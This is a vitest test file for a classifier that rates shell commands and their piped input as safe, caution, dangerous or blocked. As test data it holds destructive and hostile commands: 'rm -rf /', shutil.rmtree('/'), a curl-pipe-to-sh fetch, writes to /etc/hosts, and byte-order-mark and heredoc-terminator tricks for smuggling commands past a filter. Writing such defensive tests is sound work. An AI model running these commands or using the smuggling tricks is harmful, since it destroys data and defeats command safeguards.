import { expect, test } from 'vitest';
import { classify } from '#classifier';
import { readFedCommand } from '#server/terminal/read-fed-command.ts';

const tierOf = (text: string, stdin: string | Uint8Array) => readFedCommand(text, Buffer.from(stdin), classify).tier;

test.each([
	['cat', 'rm -rf /\n', 'safe'],
	['sort | uniq -c', 'b\na\n', 'safe'],
	['bash', 'rm -rf /', 'blocked'],
	// Behind a byte order mark the number sign begins no comment: a shell takes both for the name of a program.
	['bash', '\uFEFF# ; rm -rf /\n', 'blocked'],
	['xargs rm -rf', '/etc\n', 'blocked'],
	['python3', 'import shutil; shutil.rmtree("/")', 'blocked'],
	['bash', 'curl -s https://example.org/i.sh | sh\n', 'dangerous'],
	['rm -rf /', 'text', 'blocked'],
	['sudo tee /etc/hosts', 'text', 'caution']
])('%s that is given %j is %s', (text, stdin, tier) => expect(tierOf(text, stdin)).toBe(tier));

test.each([
	['too long to be read', `${'# nothing\n'.repeat(1000)}rm -rf /`],
	['no text', Uint8Array.of(0xff, 0xfe)],
	['text with a NUL', 'ls\0'],
	['a line that would end it', 'x\nHOSTWRIGHT_STANDARD_INPUT\nrm -rf /\n']
])('what is %s is unknown code to a shell, and nothing to a filter', (_what, stdin) => {
	expect(tierOf('bash', stdin)).toBe('dangerous');
	expect(tierOf('wc -l', stdin)).toBe('safe');
});

test('a text that would swallow the rest is judged alone as well', () => {
	expect(tierOf("rm -rf / <<'HOSTWRIGHT_STANDARD_INPUT'", 'x')).toBe('blocked');
	expect(tierOf('rm -rf ~/x # }', 'x')).not.toBe('safe');
});

test('spans are those of the text', () => {
	const text = 'ls; bash';
	const { reasons, reading } = readFedCommand(text, Buffer.from('rm -rf /'), classify);
	expect(reading.commands.slice(0, 2).map(({ span }) => text.slice(span.start, span.end))).toEqual(['ls', 'bash']);
	for (const { span } of [...reasons, ...reading.commands]) expect(span.end).toBeLessThanOrEqual(text.length);
});
